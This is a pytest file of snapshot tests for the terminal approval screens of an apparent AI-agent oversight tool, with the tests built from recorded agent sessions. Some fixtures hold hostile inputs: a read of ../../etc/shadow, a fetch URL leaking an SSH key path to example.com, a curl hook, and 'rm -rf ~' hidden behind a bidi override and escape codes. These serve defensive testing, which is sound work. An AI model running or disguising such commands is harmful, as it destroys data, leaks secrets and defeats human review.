"""Every screen of the terminal UI as a picture, at three sizes. See `support.screens`."""

from collections.abc import Callable
from pathlib import Path

import pytest
from msgspec.structs import replace
from textual.pilot import Pilot
from textual.widgets import Static

from assent.approval import (
    AskDetails,
    Choice,
    EditDetails,
    ExecDetails,
    InfoDetails,
    McpDetails,
    Outcome,
    Question,
    UnapprovedFile,
)
from assent.config import TerminalSettings
from assent.events import Attached, TrialStarted
from assent.front.tui.answer_screens import AnswerScreen
from assent.front.tui.viewer import ViewerScreen
from assent.parts import MarkdownDisplay, PlainDisplay, TerminalDisplay, Text, Todo, TodosDisplay
from assent.tools.support.diff import diff
from assent.trial import ShownEffect, Trial
from support.recorded_session import FOLDER, RecordedSession
from support.screens import SIZES, Play, check, picture, settle

pytestmark = [pytest.mark.spec("G2"), pytest.mark.spec("G3")]

ASK = "A test of this project fails. Find out why, fix it, and show me that it works."
OLD = '''"""A shopping cart. Amounts are in cents."""


def discount(amount: int) -> int:
    """Ten percent from 100.00 on."""
    return amount // 10 if amount > 10_000 else 0


def shipping(amount: int) -> int:
    """Free from 50.00 on."""
    if amount >= 5_000:
        return 0
    return 490


def rounded(amount: int) -> int:
    """To the next five cents."""
    return (amount + 2) // 5 * 5


def total(amounts: list[int]) -> int:
    amount = sum(amounts)
    return amount - discount(amount)
'''
NEW = OLD.replace("amount > 10_000", "amount >= 10_000")
TWO = NEW.replace("amount - discount(amount)", "rounded(amount - discount(amount)) + shipping(amount)")
TESTS = "test_exact (test_cart.Total) ... \x1b[31mFAIL\x1b[0m\ntest_small (test_cart.Total) ... \x1b[32mok\x1b[0m\n"
MARKDOWN = """The discount should begin *at* 100.00, but the code compares with `>`:

```python
def discount(amount: int) -> int:
    return amount // 10 if amount > 10_000 else 0
```

- **one** character is wrong
- the docstring is right

| amount | discount |
|---|---|
| 99.99 | 0.00 |
| 100.00 | 10.00 |
"""


def told() -> RecordedSession:
    """A conversation with thoughts, calls of several outcomes and an answer."""
    recording = RecordedSession().prompt(ASK)
    recording.reply(
        "I look at the project first.", "**Getting an overview**\nThree files. I read them before I touch them."
    )
    recording.call("list", "list_directory", dir_path=".").runs("list")
    recording.ends("list", PlainDisplay("cart.py\nREADME.md\ntest_cart.py"), ms=3)
    recording.call("read", "read_file", file_path="cart.py").runs("read").ends("read", PlainDisplay(OLD), ms=8)
    recording.call("test", "run_shell_command", command="python3 -m unittest -v", description="Run the tests").runs(
        "test"
    )
    recording.ends("test", TerminalDisplay(TESTS), ms=1234)
    recording.call("fix", "replace", file_path="cart.py", instruction="Begin at exactly 100.00").runs("fix")
    recording.ends("fix", diff("cart.py", OLD, NEW).display("cart.py"), ms=5)
    return recording.reply(MARKDOWN, "**Found it**\nThe docstring says *from*, the code says *above*.").over()


def streaming() -> RecordedSession:
    recording = RecordedSession().prompt("Watch the tests.")
    recording.reply("I start them.").call("test", "run_shell_command", command="make test").runs("test", TESTS)
    return recording.call("look", "read_file", file_path="Makefile").runs("look").ends("look", PlainDisplay("all:"))


def mentioned() -> RecordedSession:
    content = (Text("…"),)
    recording = RecordedSession().prompt(
        "Does @cart.py do what @docs/ and the picture @till.png say? Mind @.env, too.",
        Attached("cart.py", "27 lines", content),
        Attached("docs/", "3 files", content),
        Attached("till.png", "image/png", content),
        Attached(".env", problem="usually holds secrets"),
    )
    return recording.reply("It does.").over()


def thinking() -> RecordedSession:
    recording = RecordedSession().prompt("Why is it slow?").reply("Let me see.").over().prompt("And now?")
    return recording.streams("It reads every file **twice**, because", ("Counting the reads", "Once for the digest …"))


def failed_model() -> RecordedSession:
    problem = "No key for the model. Get one for free at https://aistudio.google.com/apikey\nand set it in this shell."
    return RecordedSession().prompt("Hello?").over("failed", problem)


def failed_calls() -> RecordedSession:
    recording = RecordedSession().prompt("Try it.").reply("I try.")
    recording.call("a", "run_shell_command", command="make [all]").runs("a")
    recording.ends("a", TerminalDisplay("make: *** No rule to make target '[all]'.\n"), "error", "Exit code 2.", 35)
    recording.call("b", "read_file", file_path="../../etc/shadow")
    recording.ends(
        "b", status="error", failure="../../etc/shadow is outside of the folder.\nAsk for a file inside of it."
    )
    recording.call("c", "write_file", file_path="notes.txt", content="x").ends(
        "c", status="cancelled", failure="refused"
    )
    return recording.over("cancelled")


def todos() -> RecordedSession:
    recording = RecordedSession("plan").prompt("Plan it.").reply("Here is my plan.").call("t", "write_todos").runs("t")
    recording.ends(
        "t", TodosDisplay((Todo("Read the code", "completed"), Todo("Fix it", "in_progress"), Todo("Rest", "pending")))
    )
    recording.call("m", "web_search", query="python  [bold]rounding[/bold]").runs("m")
    return recording.ends("m", MarkdownDisplay("Use `decimal` [1].\n\n1. docs.python.org")).over()


def steps() -> RecordedSession:
    """In the middle of a plan with more steps than are shown."""
    names = ("Read the code", "Write a test that fails", "Fix the rounding of discounts", "Run all tests")
    names += ("Update the changelog", "Tidy up", "Show the result")
    states = ("completed", "completed", "in_progress", "pending", "pending", "pending", "pending")
    recording = RecordedSession().prompt("Fix it.").reply("Here is my plan.").call("t", "write_todos").runs("t")
    recording.ends("t", TodosDisplay(tuple(Todo(name, state) for name, state in zip(names, states, strict=True))))  # type: ignore[arg-type]
    return recording.call("test", "run_shell_command", command="make test").runs("test", TESTS)


def long_output() -> RecordedSession:
    """A long output, a failure, a paste."""
    recording = RecordedSession().prompt("Why?\n" + "\n".join(f"log {n}" for n in range(200))).reply("I look.")
    recording.call("a", "run_shell_command", command="seq 1 300").runs("a")
    recording.ends("a", TerminalDisplay("\n".join(map(str, range(1, 301)))))
    recording.call("b", "run_shell_command", command="make check").runs("b")
    lines = "\n".join(f"src/cart.py:{n}: error: something is wrong here" for n in range(40))
    return recording.ends("b", TerminalDisplay(lines, "exit 2")).reply("It fails.").over()


def colours() -> RecordedSession:
    """Every colour that programs use by number, in front and behind, and text that would hide itself."""
    rows = [" ".join(f"\x1b[{base + n}m {base + n:3} \x1b[0m" for n in range(8)) for base in (30, 90, 40, 100)]
    rows += [
        "\x1b[30;40mblack on black\x1b[0m \x1b[97;107mwhite on white\x1b[0m \x1b[7minverted\x1b[0m \x1b[8mconcealed"
    ]
    recording = RecordedSession().prompt("Show colours.").call("c", "run_shell_command", command="./colours").runs("c")
    return recording.ends("c", TerminalDisplay("\n".join(rows))).over()


def waiting_queue() -> RecordedSession:
    recording = RecordedSession().prompt("Do it.").streams("I am at it.")
    return recording.queue("and then run the tests", "then commit\nwith a good message", "third", "fourth", "fifth")


def wide() -> RecordedSession:
    recording = RecordedSession().prompt("请修复折扣错误 🛒 並解釋原因，謝謝。" * 4)
    recording.reply("折扣应从 **100.00** 开始。👩‍💻 " * 6 + "\n\n" + "x" * 300)
    recording.call("w", "write_file", file_path="文档/说明.md", content="…").runs("w")
    recording.ends("w", diff("文档/说明.md", "旧的一行 🙂\n", "新的一行，更长一些 🙂🙂\n").display("文档/说明.md"))
    recording.call("l", "run_shell_command", command="echo " + "very-long-word-" * 20).runs("l")
    return recording.ends("l", TerminalDisplay("很长的输出 " * 30)).over()


# --- questions ---


def asked(details: object, tool: str = "run_shell_command", why: str = "", **args: object) -> RecordedSession:
    recording = RecordedSession().prompt(ASK).reply("Now I need your assent.")
    return recording.asks("c1", tool, details, why or "It is not known to be harmless.", **args)  # type: ignore[arg-type]


def edit(new: str, path: str = "cart.py", old: str | None = OLD, protected: str = "") -> EditDetails:
    return EditDetails(path=path, diff=diff(path, old, new).text, old=old, new=new, protected=protected)


def command(text: str, risk: str = "low", reason: str = "it runs a program of the project") -> ExecDetails:
    return ExecDetails(command=text, roots=(text.split()[0],), directory=FOLDER, risk=risk, risk_reason=reason)  # type: ignore[arg-type]


def run(text: str, risk: str = "low", reason: str = "it runs a program of the project") -> RecordedSession:
    return asked(command(text, risk, reason), command=text)


def changed_script() -> RecordedSession:
    files = (UnapprovedFile("scripts/ci.sh", changed=True), UnapprovedFile("Makefile"))
    recording = RecordedSession().prompt(ASK).reply("Now I need your assent.")
    why = "scripts/ci.sh has changed since you approved it"
    return recording.asks("c1", "run_shell_command", command("./scripts/ci.sh"), why, files, command="./scripts/ci.sh")


OFFERED: tuple[Outcome, ...] = ("proceed_once", "proceed_always", "try_first", "cancel")
EFFECTS = (
    ShownEffect(path="cart.py", what="changed", diff=diff("cart.py", OLD, TWO).text, parts=2),
    ShownEffect(path="conftest.py", what="added", summary="executable", diff=diff("conftest.py", None, "x = 1\n").text),
    ShownEffect(path="logo.png", what="changed", summary="not text, or long: 12 KB → 14 KB"),
    ShownEffect(path="out", what="added", summary="10,000 added (41 MB)", files=10_000),
    ShownEffect(path=".vscode/tasks.json", what="added", parts=0, refused=".vscode decides what runs here"),
)


def trying() -> RecordedSession:
    recording = RecordedSession().prompt(ASK).reply("Now I need your assent.")
    recording.asks("c1", "run_shell_command", command("make gen"), options=OFFERED, command="make gen")
    return recording.happens(TrialStarted("c1", "q-c1", "ann"))


def tried(
    effects: tuple[ShownEffect, ...] = EFFECTS, stale: tuple[str, ...] = (), output: str = "2 files generated\n"
) -> RecordedSession:
    """The question after a trial."""
    found = Trial(store="t", effects=effects, manifest="m", output=output, ended="exit 0", stale=stale)
    apply: tuple[Outcome, ...] = () if stale else ("proceed_once",)
    details = replace(command("make gen"), trial=found)
    recording = RecordedSession().prompt(ASK).reply("Now I need your assent.")
    options: tuple[Outcome, ...] = (*apply, "try_first", "run_directly", "cancel")
    why = "it was tried; decide about what it did"
    return recording.asks("c1", "run_shell_command", details, why, options=options, command="make gen")


def untried() -> RecordedSession:
    recording = RecordedSession().prompt(ASK).reply("Now I need your assent.")
    why = "bubblewrap is not installed (apt install bubblewrap)"
    return recording.asks("c1", "run_shell_command", command("make gen"), untried=why, command="make gen")


def one_edit() -> RecordedSession:
    return asked(edit(NEW), "replace", "Changing a file needs your assent.", file_path="cart.py")


def two_parts() -> RecordedSession:
    return asked(edit(TWO), "replace", "Changing a file needs your assent.", file_path="cart.py")


def new_file() -> RecordedSession:
    details = edit("hooks:\n  - run: [curl, example.com]\n", ".assent/settings.yml", None, "it configures Assent")
    return asked(details, "write_file", "The file is protected.", file_path=".assent/settings.yml")


def web() -> RecordedSession:
    url = "https://example.com/collect?data=%68%65%6c%6c%6f%20secret&next=%2Fhome%2Fann%2F.ssh%2Fid_rsa"
    details = InfoDetails("Summarise what is there", (url,), ("the address carries a lot of data",))
    return asked(details, "web_fetch", "Fetching a page needs your assent.", prompt="Summarise", url=url)


def server() -> RecordedSession:
    args = {
        "title": "A [bold]bug[/bold]\nin two lines",
        "labels": ["bug", "cart"],
        "author": {"name": "Ann", "mail": {"work": "ann@example.com", "verified": True}},
        "count": 3,
        "nothing": None,
    }
    details = McpDetails(
        server="tracker", tool="create_issue", args=args, description="Creates an issue.", unseen="This tool is new."
    )
    return asked(details, "mcp_tracker_create_issue", "Tools of servers ask.", **args)


DATABASE = Question(question="Which database should it be?", options=(Choice("SQLite", "one file"), Choice("Postgres")))
FEATURES = Question(
    question="Which features should the shop have?",
    multi_select=True,
    options=(Choice("Search", "full text"), Choice("Coupons"), Choice("Reviews", "with stars")),
)
DROP = Question(question="May it be dropped?", type="yesno")
NAME = Question(question="What is its name?", type="text", placeholder="cart")


def question(*questions: Question) -> RecordedSession:
    details = AskDetails(questions or (DATABASE, DROP, NAME))
    return asked(details, "ask_user", "The model wants to know.")


def several() -> RecordedSession:
    recording = run("python3 -m unittest -v")
    recording.asks("c2", "replace", edit(NEW), "Changing a file needs your assent.", file_path="cart.py")
    return recording.asks("c3", "run_shell_command", command("git push", "medium", "it sends"), command="git push")


def long_command() -> RecordedSession:
    return run("\n".join(f"echo step {number} of a long script" for number in range(60)), "medium", "it is long")


def hidden() -> RecordedSession:
    text = "echo harmless\u202e # gnihton\u200b\x1b[2J\x1b[H" + " " * 300 + "\r rm -rf ~ раураl"
    return run(text, "high", "it deletes files [bold]for good[/bold]")


# --- what a person does before the picture ---


def presses(*keys: str) -> Play:
    async def play(pilot: "Pilot[None]") -> None:
        for key in keys:
            await pilot.press(key)
            await settle(pilot)

    return play


def opens(key: str, *more: str) -> Play:
    """The question is read to its end; then a key that opens a screen above it."""

    async def play(pilot: "Pilot[None]") -> None:
        await presses("pagedown", "pagedown", "pagedown", key)(pilot)
        while not isinstance(pilot.app.screen, AnswerScreen):
            await pilot.pause()
        await presses(*more)(pilot)

    return play


async def next_mode(pilot: "Pilot[None]") -> None:
    """Until it is said when the mode takes effect."""
    await presses("shift+tab", "shift+tab")(pilot)
    while "takes effect" not in f"{pilot.app.query_one('#question-keys', Static).content}":
        await pilot.pause(0.02)
    await settle(pilot)


def views(*keys: str) -> Play:
    """The newest output on the whole screen, and then these keys."""

    async def play(pilot: "Pilot[None]") -> None:
        await presses(*"/view", "enter")(pilot)
        while not isinstance(pilot.app.screen, ViewerScreen):
            await pilot.pause()
        await presses(*keys)(pilot)

    return play


def types(line: str) -> Play:
    return presses(*line, "enter")


SCREENS: dict[str, tuple[Callable[[], RecordedSession], Play | None]] = {
    "start": (RecordedSession, None),
    "conversation": (told, None),
    "conversation-unfolded": (told, presses("ctrl+o")),
    "conversation-selected": (told, presses("ctrl+up", "up")),
    "mentions": (mentioned, None),
    "live-output": (streaming, None),
    "thinking": (thinking, None),
    "model-failed": (failed_model, None),
    "calls-failed": (failed_calls, None),
    "todos": (todos, presses("ctrl+o")),
    "steps": (steps, None),
    "long-output": (long_output, None),
    "colours": (colours, None),
    "viewer": (long_output, views("slash", *"cart.py:2", "enter")),
    "viewer-diff": (told, views("w")),
    "review": (long_command, presses("f", "space")),
    "queue": (waiting_queue, None),
    "wide": (wide, presses("ctrl+o")),
    "ask-edit": (one_edit, None),
    "ask-edit-side-by-side": (one_edit, presses("v")),
    "ask-edit-parts": (two_parts, presses("right_square_bracket", "space")),
    "ask-edit-protected": (new_file, None),
    "ask-command": (lambda: run("python3 -m unittest -v"), None),
    "ask-command-medium": (lambda: run("git push origin main", "medium", "it sends to another machine"), None),
    "ask-command-files": (changed_script, None),
    "ask-command-high": (lambda: run("rm -rf build", "high", "it deletes files"), None),
    "ask-command-long": (long_command, presses("y")),
    "ask-command-hidden": (hidden, None),
    "ask-command-untried": (untried, None),
    "trying": (trying, None),
    "tried": (tried, None),
    "tried-one": (lambda: tried(EFFECTS[1:2], output=""), None),
    "tried-parts": (tried, presses("right_square_bracket", "space")),
    "tried-nothing": (lambda: tried((), output=""), None),
    "tried-stale": (lambda: tried(EFFECTS[:1], ("cart.py",)), None),
    "ask-web": (web, None),
    "ask-server": (server, None),
    "ask-question": (question, None),
    "ask-yes-or-no": (lambda: question(DROP), None),
    "ask-text": (lambda: question(NAME), presses("s", "h", "o")),
    "select-question": (lambda: question(DATABASE), presses("down")),
    "select-yes-or-no": (lambda: question(DROP), presses("up")),
    "ask-several": (several, presses("right")),
    "ask-unfocused": (several, presses("escape")),
    "answer-scope": (lambda: run("python3 -m unittest -v"), opens("a")),
    "answer-reason": (lambda: run("python3 -m unittest -v"), opens("r", "n", "o")),
    "answer-arguments": (server, opens("i")),
    "answer-question": (question, opens("y")),
    "answer-question-back": (question, opens("y", "2", "1", "escape")),
    "ask-ticks": (lambda: question(FEATURES), None),
    "select-ticks": (lambda: question(FEATURES), None),
    "answer-ticks": (lambda: question(FEATURES), opens("1", "3", "tab", *"dark")),
    "answer-ticks-none": (lambda: question(FEATURES), opens("y", "enter")),
    "ask-next-mode": (lambda: run("python3 -m unittest -v"), next_mode),
    "help": (RecordedSession, types("/help")),
    "stats": (told, types("/stats")),
    "tools": (RecordedSession, types("/tools")),
    "servers": (RecordedSession, types("/mcp")),
    "models": (RecordedSession, types("/model")),
    "server-page": (RecordedSession, presses(*"/mcp", "enter", "enter")),
    "completion": (RecordedSession, presses(*"/mo")),
    "completion-resource": (RecordedSession, presses(*"@doc")),
}


@pytest.mark.parametrize("size", SIZES, ids=lambda size: f"{size[0]}x{size[1]}")
@pytest.mark.parametrize("name", SCREENS)
async def test_a_screen_looks_as_it_did(
    name: str, size: tuple[int, int], request: pytest.FixtureRequest, tmp_path: Path
):
    recording, play = SCREENS[name]
    terminal = TerminalSettings(enter="select" if name.startswith("select-") else "no")
    svg = await picture(recording(), size, play, terminal=terminal)
    update = bool(request.config.getoption("--update-screens"))
    check(f"{name}-{size[0]}x{size[1]}", svg, update=update, folder=tmp_path)


@pytest.mark.parametrize("look", ["light", "contrast", "plain"])
@pytest.mark.parametrize("name", ["conversation", "colours", "ask-edit-parts", "ask-command-high"])
async def test_a_screen_in_another_look_looks_as_it_did(
    name: str, look: str, request: pytest.FixtureRequest, tmp_path: Path
):
    recording, play = SCREENS[name]
    svg = await picture(recording(), (80, 24), play, look)
    check(f"{name}-{look}", svg, update=bool(request.config.getoption("--update-screens")), folder=tmp_path)
